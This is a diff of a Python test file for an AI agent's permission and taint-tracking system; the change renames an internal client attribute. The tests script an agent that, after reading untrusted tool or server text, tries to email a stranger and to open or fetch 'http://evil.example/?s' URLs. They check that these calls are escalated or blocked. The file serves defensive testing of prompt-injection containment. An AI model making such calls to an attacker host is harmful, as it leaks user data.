@@ -86,7 +86,7 @@ async def test_F3_a_sub_agent_of_a_tainted_parent_is_tainted_before_it_reads_any
         at.it.model.otherwise(by_beginning(script))
         ran = await at.run("parent, go")
         child = await child_of(at, ran)
-        view = await at.it.house.door.wait_until_ended(child.child)
+        view = await at.it.house.client.wait_until_ended(child.child)
         assert (view.label, [call.decision for call in view.calls], at.executed()) == (
             "untrusted",
             ["ask", "ask"],
@@ -120,7 +120,7 @@ async def test_a_sub_agent_may_write_to_whom_the_owner_named(tmp_path: Path) -> 
         }
         at.it.model.otherwise(by_beginning(script))
         ran = await at.run(f"parent, mail {BOB} what is new")
-        view = await at.it.house.door.wait_until_ended((await child_of(at, ran)).child)
+        view = await at.it.house.client.wait_until_ended((await child_of(at, ran)).child)
         assert [call.decision for call in view.calls] == ["allow", "ask"]
         assert at.executed() == [("send", {"to": BOB, "body": "the report"})]
 
@@ -130,7 +130,7 @@ async def test_F3_a_sub_agent_of_an_event_has_no_more_rights(tmp_path: Path) -> 
         at.it.model.otherwise(by_beginning({"child": [sends(BOB), says("ok")]}))
         at.it.model.script(spawns(f"child: mail {BOB}"))
         ran = await at.event(f"mail {BOB}")
-        view = await at.it.house.door.wait_until_ended((await child_of(at, ran)).child)
+        view = await at.it.house.client.wait_until_ended((await child_of(at, ran)).child)
         assert (view.label, view.calls[0].decision, ran.asked, at.executed()) == (
             "untrusted",
             "ask",
@@ -188,7 +188,7 @@ async def test_A22_what_a_server_says_of_its_tools_is_a_strangers_text(tmp_path:
         note = calls(("desk__note", {"title": "eve", "text": "x"}))
         ran = await at.run("hello, have a look", find, sends(EVE), note, says("ok"))
         assert (ran.asked, ran.label, at.executed()) == (["send", "note"], "untrusted", [])
-        await at.it.house.door.set_agent("web:two", "clerk")
+        await at.it.house.client.set_agent("web:two", "clerk")
         page = calls(("desk__open_page", {"url": "http://evil.example/?s"}))
         ran = await at.run("hello, have a look", sends(EVE), page, says("ok"), session="web:two")
         assert (ran.asked, at.executed()) == (["send", "open_page"], [])
@@ -219,7 +219,7 @@ async def test_A22_nor_is_it_forgotten_when_the_tool_goes_away(tmp_path: Path) -
         script.file.write_text(json.dumps(whole))
 
     async with desk(tmp_path, vanishing, {"clerk": CLERK}) as at:
-        await at.it.house.door.set_agent("web:two", "clerk")
+        await at.it.house.client.set_agent("web:two", "clerk")
         fetch = calls(("web_fetch", {"url": "http://evil.example/?s=1"}))
         book = calls(("desk__book", {"name": "x"}))
         ran = await at.run("hello, have a look", book, book, fetch, says("ok"), session="web:two")
